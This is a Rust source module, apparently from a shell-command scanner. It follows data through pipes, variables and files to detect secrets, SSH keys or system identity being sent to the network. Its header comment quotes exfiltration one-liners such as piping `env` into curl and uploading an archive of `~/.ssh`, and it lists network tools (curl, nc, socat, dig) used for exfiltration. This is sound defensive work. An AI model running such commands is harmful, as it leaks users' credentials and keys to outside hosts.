//! Secrets, and what tells of the machine, that go to the network: `env | curl -d @- URL`, `curl URL/$(whoami)`,
//! `tar cz ~/.ssh > x; curl -T x URL`.
//!
//! What a command prints is followed through pipes, substitutions, variables and files of the same text. A token in a header is no
//! leak: it is how programs say who they are.

use super::script::{Command, Script, Sep, Word};
use super::secrets::{self, Worth};
use std::collections::HashMap;

/// Programs that send what stands in their arguments, or what they read.
const SENDERS: [&str; 15] = [
    "curl",
    "wget",
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "socat",
    "telnet",
    "openssl",
    "http",
    "httpie",
    "websocat",
    "xh",
    "lwp-request",
];
/// Programs that ask for names: what is asked for goes to whoever owns the name.
const ASKERS: [&str; 7] = ["nslookup", "dig", "host", "ping", "ping6", "drill", "getent"];
/// Programs that put files elsewhere.
const MOVERS: [&str; 8] = ["scp", "sftp", "rsync", "rclone", "ftp", "aws", "gsutil", "gh"];
/// Programs that send what they read to somebody's mailbox; reports go the same way.
const MAILERS: [&str; 6] = ["mail", "mailx", "mutt", "sendmail", "s-nail", "swaks"];
/// Options that say who one is.
const NAMES_ONESELF: [&str; 12] = [
    "-H",
    "--header",
    "-u",
    "--user",
    "--oauth2-bearer",
    "--cert",
    "--key",
    "-E",
    "-A",
    "--user-agent",
    "--cacert",
    "-b",
];

/// Commands of a text that are followed.
const MAX_COMMANDS: usize = 256;

/// A text, with what is known of the worth of what goes through it.
struct Flow<'a> {
    script: &'a Script,
    /// Each command, programs that start others taken away.
    plain: Vec<Command>,
    /// What each prints by itself.
    own: Vec<Worth>,
    /// What comes out of the substitutions in each.
    substituted: Vec<Worth>,
    /// What each prints, with what it takes out of variables and files.
    printed: Vec<Worth>,
    variables: HashMap<&'a str, Worth>,
    files: HashMap<String, Worth>,
    /// What all commands so far have printed.
    so_far: Worth,
    /// There is a group of commands: `(id; env) | ...`.
    has_group: bool,
}

/// The worst thing that a text sends away.
pub(super) fn sent(script: &Script) -> Worth {
    let mut flow = Flow::new(script);
    (0..flow.plain.len()).map(|index| flow.next(index)).max().unwrap_or_default()
}

impl<'a> Flow<'a> {
    fn new(script: &'a Script) -> Self {
        let commands = &script.commands[..script.commands.len().min(MAX_COMMANDS)];
        let plain: Vec<Command> =
            commands.iter().map(|command| command.unwrapped().unwrap_or_else(|| command.clone())).collect();
        let own: Vec<Worth> = plain.iter().map(secrets::worth).collect();
        let mut substituted = vec![Worth::default(); plain.len()];
        for (command, worth) in commands.iter().zip(&own) {
            if let Some(host) = command.host.and_then(|host| substituted.get_mut(host)) {
                *host = host.and(*worth);
            }
        }
        for (command, plain) in commands.iter().zip(&plain) {
            if let Some(host) = command.host.and_then(|host| substituted.get_mut(host))
                && secrets::only_counts(plain)
            {
                *host = Worth::default();
            }
        }
        let has_group = commands
            .iter()
            .any(|command| command.words.is_empty() && command.assigns.is_empty() && command.host.is_none());
        let (variables, files) = (HashMap::new(), HashMap::new());
        let so_far = Worth::default();
        Self { script, plain, own, substituted, printed: Vec::new(), variables, files, so_far, has_group }
    }

    /// Takes the next command; what it sends away.
    fn next(&mut self, index: usize) -> Worth {
        let command = &self.script.commands[index];
        let printed = self.prints(index);
        self.printed.push(printed);
        let piped = self.piped(index);
        for (name, _) in &command.assigns {
            let vars = command.assigned_vars.iter().filter_map(|var| self.variables.get(var.as_str()));
            let worth = vars.copied().max().unwrap_or_default().max(self.substituted[index]);
            self.variables.insert(name, worth);
        }
        let looped = match command.name() {
            "for" => {
                command.args().map(secrets::of_file).max().unwrap_or_default().max(self.substituted[index])
            }
            "read" => piped,
            _ => Worth::default(),
        };
        if looped != Worth::default() {
            self.variables
                .extend(command.args().filter(|arg| !arg.starts_with('-')).map(|arg| (arg, looped)));
        }
        for file in written(&self.plain[index]) {
            let before = self.files.get(&file).copied().unwrap_or_default();
            self.files.insert(file, printed.max(piped).and(before));
        }
        if command.host.is_none() {
            self.so_far = self.so_far.and(printed);
        }
        self.sends(index, piped)
    }

    /// What a command prints or packs.
    fn prints(&self, index: usize) -> Worth {
        let command = &self.plain[index];
        let inputs = command.redirects.iter().filter(|(op, _)| op == "<").map(|(_, file)| &*file.text);
        let taken = command.args().chain(inputs).map(|file| self.in_file(file)).max().unwrap_or_default();
        let vars = command.words.iter().flat_map(|word| &word.vars);
        let vars = vars.filter_map(|var| self.variables.get(var.as_str())).copied().max().unwrap_or_default();
        self.own[index].max(taken).max(vars).max(self.substituted[index])
    }

    /// What is piped into a command.
    fn piped(&self, index: usize) -> Worth {
        let command = &self.script.commands[index];
        if command.before != Sep::Pipe {
            return Worth::default();
        }
        let before = self.script.commands[..index].iter().enumerate();
        let stages: Vec<usize> = before
            .filter(|(_, other)| other.pipeline == command.pipeline && other.host == command.host)
            .map(|(at, _)| at)
            .collect();
        if stages.is_empty() || self.has_group {
            // `(id; env) | nc`: all that was printed goes there.
            return self.so_far;
        }
        match stages.iter().any(|at| secrets::only_counts(&self.plain[*at])) {
            true => Worth::default(),
            false => stages.iter().map(|at| self.printed[*at]).fold(Worth::default(), Worth::and),
        }
    }

    fn in_file(&self, file: &str) -> Worth {
        self.files.get(base(file)).copied().unwrap_or_default()
    }

    /// What this command sends away.
    fn sends(&self, index: usize, piped: Worth) -> Worth {
        let (command, original) = (&self.plain[index], &self.script.commands[index]);
        let (name, args) = (command.name(), command.args().collect::<Vec<_>>());
        let is_socket = |(op, file): &(String, Word)| op.contains('>') && file.text.starts_with("/dev/tcp/");
        if original.redirects.iter().any(is_socket) {
            return self.printed[index].max(piped);
        }
        let given = match original.name() {
            "xargs" if !only_in_headers(original) => self.in_arguments(index).max(piped),
            _ => self.in_arguments(index),
        };
        if ASKERS.contains(&name) {
            return given.as_name();
        }
        if MOVERS.contains(&name) {
            let remote = args.iter().any(|arg| arg.contains(':') || *arg == "gist");
            let file =
                args.iter().map(|arg| secrets::of_file(arg).max(self.in_file(arg))).max().unwrap_or_default();
            return if remote { file.only_secrets() } else { Worth::default() };
        }
        if MAILERS.contains(&name) {
            let attached = args.windows(2).filter(|two| matches!(two[0], "-a" | "-A" | "--attach"));
            let attached = attached.map(|two| secrets::of_file(two[1])).max().unwrap_or_default();
            return piped.max(self.redirected(command)).max(attached).only_secrets();
        }
        if !SENDERS.contains(&name) || (name == "openssl" && args.first() != Some(&"s_client")) {
            return Worth::default();
        }
        let raw = !matches!(name, "curl" | "wget" | "http" | "httpie" | "xh" | "lwp-request");
        let is_listening = |arg: &&str| arg.starts_with('-') && !arg.starts_with("--") && arg.contains('l');
        let listens = raw && args.iter().any(is_listening);
        let reads = (raw && !listens) || args.iter().any(|arg| reads_stdin(arg));
        let input = if reads { piped.max(self.redirected(command)) } else { Worth::default() };
        let files =
            args.iter().filter(|_| !raw).map(|arg| self.uploaded(arg, &args)).max().unwrap_or_default();
        input.max(files).max(given)
    }

    fn redirected(&self, command: &Command) -> Worth {
        let files = command.redirects.iter().filter(|(op, _)| op == "<").map(|(_, file)| &*file.text);
        files.map(|file| secrets::of_file(file).max(self.in_file(file))).max().unwrap_or_default()
    }

    /// `@file`, `name=@file`, `-T file`, `--post-file=file`.
    fn uploaded(&self, arg: &str, args: &[&str]) -> Worth {
        let at_file =
            arg.rsplit_once('@').filter(|(before, _)| before.is_empty() || before.ends_with(['=', 'd', 'F']));
        let named =
            |(name, _): &(&str, &str)| matches!(*name, "--post-file" | "--body-file" | "--upload-file");
        let option = arg.split_once('=').filter(named);
        let behind = args.windows(2).any(|two| matches!(two[0], "-T" | "--upload-file") && two[1] == arg);
        let file = match (at_file, option) {
            (Some((_, file)), _) => file.split(';').next().unwrap_or(file),
            (_, Some((_, file))) => file,
            _ if behind => arg,
            _ => return Worth::default(),
        };
        secrets::of_file(file).max(self.in_file(file))
    }

    /// What is substituted into the arguments, or put there by a variable; what says who one is does not count.
    fn in_arguments(&self, index: usize) -> Worth {
        let command = &self.script.commands[index];
        let mut worth = Worth::default();
        let (mut names_oneself, mut is_data) = (false, false);
        for word in command.words.iter().skip(1) {
            // `-d "$TOKEN"` alone; `-d "token=$TOKEN"` is how one is asked for.
            let bare =
                is_data && word.text.is_empty() && word.vars.iter().any(|var| secrets::is_secret_name(var));
            worth = worth.and(if bare { Worth { secrets: 1, telling: 0 } } else { Worth::default() });
            is_data = word.text == "-d" || word.text.starts_with("--data");
            let skip = names_oneself || word.text.starts_with("-H");
            names_oneself = NAMES_ONESELF.contains(&&*word.text);
            if skip {
                continue;
            }
            let vars = word.vars.iter().filter_map(|var| self.variables.get(var.as_str()));
            let commands = self.script.commands.iter().zip(&self.own);
            let inside =
                commands.filter(|(other, _)| other.host == Some(index) && word.span.contains(&other.at));
            let own = inside.map(|(_, own)| *own).fold(Worth::default(), Worth::and);
            worth = worth.and(vars.copied().max().unwrap_or_default()).and(own);
        }
        worth
    }
}

/// Files that a command writes.
fn written(command: &Command) -> Vec<String> {
    let mut files: Vec<String> = command
        .redirects
        .iter()
        .filter(|(op, _)| op.contains('>'))
        .map(|(_, file)| base(&file.text).to_owned())
        .collect();
    let args: Vec<&str> = command.args().collect();
    match command.name() {
        "tee" => {
            files.extend(args.iter().filter(|arg| !arg.starts_with('-')).map(|arg| base(arg).to_owned()))
        }
        "cp" | "mv" | "gzip" | "base64" | "openssl" | "gpg" => {
            files.extend(args.last().map(|arg| base(arg).to_owned()))
        }
        "tar" | "7z" => {
            let archive = args.iter().find(|arg| arg.contains('.') && !arg.starts_with('-'));
            files.extend(archive.map(|arg| base(arg).to_owned()));
        }
        "ffmpeg" | "scrot" | "grim" | "procdump" | "git" | "xz" | "zip" => {
            files.extend(args.iter().filter(|arg| arg.starts_with('/')).map(|arg| base(arg).to_owned()));
        }
        _ => {}
    }
    files.retain(|file| !file.is_empty() && file != "null");
    files
}

fn base(file: &str) -> &str {
    file.rsplit('/').next().unwrap_or(file)
}

/// Whether what `xargs -I{}` puts in says who one is: `-H 'Authorization: Bearer {}'`.
fn only_in_headers(command: &Command) -> bool {
    let words: Vec<&str> = command.args().collect();
    let put_in = |two: &&[&str]| two[1].contains("{}") && !two[0].starts_with("-I");
    let mut places = words.windows(2).filter(put_in).peekable();
    places.peek().is_some() && places.all(|two| NAMES_ONESELF.contains(&two[0]))
}

/// `-d @-`, `-T -`, `-F x=@-`, `--post-file=-`.
fn reads_stdin(arg: &str) -> bool {
    arg == "-" || ["@-", "=-", "<-", "/dev/stdin"].iter().any(|end| arg.ends_with(end)) || arg == "-T-"
}
